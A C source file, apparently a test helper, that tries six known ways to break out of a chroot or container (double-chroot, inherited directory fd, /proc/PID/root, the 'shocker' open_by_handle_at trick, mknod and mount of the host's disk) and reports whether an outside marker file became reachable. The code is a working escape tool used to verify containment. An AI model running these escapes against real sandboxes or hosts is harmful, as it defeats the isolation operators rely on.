/* escape METHOD MARKER [ARG]: try to leave a changed root, and report whether
 * MARKER (an absolute path that exists only outside the root) became
 * reachable. Prints "escaped" (exit 0) or "contained: WHY" (exit 1).
 *
 *   double-chroot  the classic: keep a directory fd, chroot into a
 *                  subdirectory, fchdir back out of it, climb with "..",
 *                  chroot(".") there (needs CAP_SYS_CHROOT)
 *   fchdir         fchdir to FD, a directory opened outside and inherited,
 *                  climb with "..", chroot(".")
 *   proc-root      follow /proc/PID/root, the root of a process that lives
 *                  outside (if this /proc shows it)
 *   open-by-handle 'shocker': open_by_handle_at(2) on an fd of the current
 *                  root with a guessed handle, the root inode INO of the
 *                  host's file system (2 on ext4); the handle's format is
 *                  learned from name_to_handle_at(2) of "/". Then fchdir to
 *                  it, climb, chroot(".") (needs CAP_DAC_READ_SEARCH)
 *   mknod          mknod a block device MAJ:MIN (the host's disk) and read
 *                  LEN bytes at OFFSET from it; ARG is MAJ:MIN:OFFSET:HEX and
 *                  "escaped" means the bytes read are HEX, what the host's
 *                  disk holds there (needs CAP_MKNOD): whoever reads the raw
 *                  disk reads every file on it, the marker's too
 *   mount          ARG MAJ:MIN:FSTYPE: mknod the host's disk and mount it;
 *                  ARG proc:PID: mount a new proc and follow its PID/root,
 *                  the root of a process outside (needs CAP_SYS_ADMIN)
 *
 * Built static with gcc by the tests, run inside a busybox root. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int reachable(const char *marker) {
    return access(marker, F_OK) == 0;
}

static int verdict(const char *marker, const char *why) {
    if (reachable(marker)) {
        puts("escaped");
        return 0;
    }
    printf("contained: %s\n", why);
    return 1;
}

static void climb(void) {
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) break;
    }
}

/* Leaves through FD, a directory outside the root: fchdir to it, climb with
 * "..", chroot(".") there. */
static int through(int fd, const char *marker, char *why, size_t size) {
    if (fchdir(fd) != 0) {
        snprintf(why, size, "fchdir(%d): %s", fd, strerror(errno));
        return verdict(marker, why);
    }
    climb();
    if (chroot(".") != 0) {
        /* Without CAP_SYS_CHROOT: the marker may still be reachable
         * relative to the working directory. */
        snprintf(why, size, "chroot(\".\"): %s", strerror(errno));
        const char *relative = marker;
        while (*relative == '/') relative++;
        if (access(relative, F_OK) == 0) {
            puts("escaped");
            return 0;
        }
    }
    return verdict(marker, why);
}

/* A block device node MAJ:MIN at PATH; 0, or -1 with WHY set. */
static int block_device(const char *path, unsigned major_, unsigned minor_, char *why, size_t size) {
    unlink(path);
    if (mknod(path, S_IFBLK | 0600, makedev(major_, minor_)) != 0) {
        snprintf(why, size, "mknod(%s, %u:%u): %s", path, major_, minor_, strerror(errno));
        return -1;
    }
    return 0;
}

static int open_by_handle(const char *marker, const char *guess, char *why, size_t size) {
    struct {
        struct file_handle handle;
        unsigned char bytes[MAX_HANDLE_SZ];
    } h;
    int mount_id;
    memset(&h, 0, sizeof h);
    h.handle.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, "/", &h.handle, &mount_id, 0) != 0 || h.handle.handle_bytes < 8) {
        /* FILEID_INO32_GEN: a 32-bit inode number and its generation. */
        h.handle.handle_type = 1;
    }
    h.handle.handle_bytes = 8;
    unsigned int inode = (unsigned int)strtoul(guess, NULL, 10), generation = 0;
    memcpy(h.handle.f_handle, &inode, 4);
    memcpy(h.handle.f_handle + 4, &generation, 4);
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(mount_fd, &h.handle, O_RDONLY | O_DIRECTORY);
    if (fd < 0) {
        snprintf(why, size, "open_by_handle_at(inode %u): %s", inode, strerror(errno));
        return verdict(marker, why);
    }
    return through(fd, marker, why, size);
}

static int unhex(const char *hex, unsigned char *out, size_t max) {
    size_t n = 0;
    while (hex[0] && hex[1] && n < max) {
        unsigned v;
        if (sscanf(hex, "%2x", &v) != 1) return -1;
        out[n++] = (unsigned char)v;
        hex += 2;
    }
    return (int)n;
}

static int read_disk(const char *argument, char *why, size_t size) {
    unsigned major_, minor_;
    long long offset;
    char hex[129];
    unsigned char expected[64], got[64];
    if (sscanf(argument, "%u:%u:%lld:%128s", &major_, &minor_, &offset, hex) != 4) {
        fprintf(stderr, "escape: mknod wants MAJ:MIN:OFFSET:HEX, not '%s'\n", argument);
        return 2;
    }
    int length = unhex(hex, expected, sizeof expected);
    if (length <= 0) {
        fprintf(stderr, "escape: bad HEX '%s'\n", hex);
        return 2;
    }
    const char *node = "/tmp/escape-disk";
    if (block_device(node, major_, minor_, why, size) == 0) {
        int fd = open(node, O_RDONLY);
        if (fd < 0) {
            snprintf(why, size, "open(%s): %s", node, strerror(errno));
        } else if (pread(fd, got, (size_t)length, offset) != length) {
            snprintf(why, size, "pread(%s): %s", node, strerror(errno));
        } else if (memcmp(got, expected, (size_t)length) != 0) {
            snprintf(why, size, "%s does not read as the host's disk", node);
        } else {
            puts("escaped");
            return 0;
        }
    }
    printf("contained: %s\n", why);
    return 1;
}

static int mount_and_look(const char *marker, const char *argument, char *why, size_t size) {
    char path[4096];
    if (strncmp(argument, "proc:", 5) == 0) {
        const char *dir = "/tmp/escape-proc";
        mkdir(dir, 0755);
        if (mount("proc", dir, "proc", 0, NULL) != 0) {
            snprintf(why, size, "mount(proc, %s): %s", dir, strerror(errno));
            return verdict(marker, why);
        }
        snprintf(path, sizeof path, "%s/%s/root%s", dir, argument + 5, marker);
    } else {
        unsigned major_, minor_;
        char type[64];
        if (sscanf(argument, "%u:%u:%63s", &major_, &minor_, type) != 3) {
            fprintf(stderr, "escape: mount wants MAJ:MIN:FSTYPE or proc:PID, not '%s'\n", argument);
            return 2;
        }
        const char *node = "/tmp/escape-disk", *dir = "/tmp/escape-mnt";
        if (block_device(node, major_, minor_, why, size) != 0) return verdict(marker, why);
        mkdir(dir, 0755);
        if (mount(node, dir, type, 0, NULL) != 0) {
            snprintf(why, size, "mount(%s, %s, %s): %s", node, dir, type, strerror(errno));
            return verdict(marker, why);
        }
        snprintf(path, sizeof path, "%s%s", dir, marker);
    }
    if (access(path, F_OK) == 0) {
        puts("escaped");
        return 0;
    }
    snprintf(why, size, "%s: %s", path, strerror(errno));
    return verdict(marker, why);
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: escape double-chroot|fchdir|proc-root|open-by-handle|mknod|mount MARKER [ARG]\n");
        return 2;
    }
    const char *method = argv[1], *marker = argv[2];
    char why[4200] = "the marker is not reachable";
    if (reachable(marker)) {
        puts("not even changed root: the marker is reachable from the start");
        return 3;
    }
    if (strcmp(method, "double-chroot") == 0) {
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        mkdir("/tmp/escape-jail", 0755);
        if (fd < 0 || chroot("/tmp/escape-jail") != 0) {
            snprintf(why, sizeof why, "chroot: %s", strerror(errno));
            return verdict(marker, why);
        }
        if (fchdir(fd) != 0) {
            snprintf(why, sizeof why, "fchdir: %s", strerror(errno));
            return verdict(marker, why);
        }
        climb();
        if (chroot(".") != 0) snprintf(why, sizeof why, "chroot(\".\"): %s", strerror(errno));
        return verdict(marker, why);
    }
    if (strcmp(method, "fchdir") == 0) {
        return through(argc > 3 ? atoi(argv[3]) : 3, marker, why, sizeof why);
    }
    if (strcmp(method, "proc-root") == 0) {
        char path[4096];
        snprintf(path, sizeof path, "/proc/%s/root%s", argc > 3 ? argv[3] : "1", marker);
        if (access(path, F_OK) == 0) {
            puts("escaped");
            return 0;
        }
        snprintf(why, sizeof why, "%s: %s", path, strerror(errno));
        return verdict(marker, why);
    }
    if (strcmp(method, "open-by-handle") == 0) {
        return open_by_handle(marker, argc > 3 ? argv[3] : "2", why, sizeof why);
    }
    if (strcmp(method, "mknod") == 0 && argc > 3) {
        return read_disk(argv[3], why, sizeof why);
    }
    if (strcmp(method, "mount") == 0 && argc > 3) {
        return mount_and_look(marker, argv[3], why, sizeof why);
    }
    fprintf(stderr, "escape: unknown method '%s'\n", method);
    return 2;
}
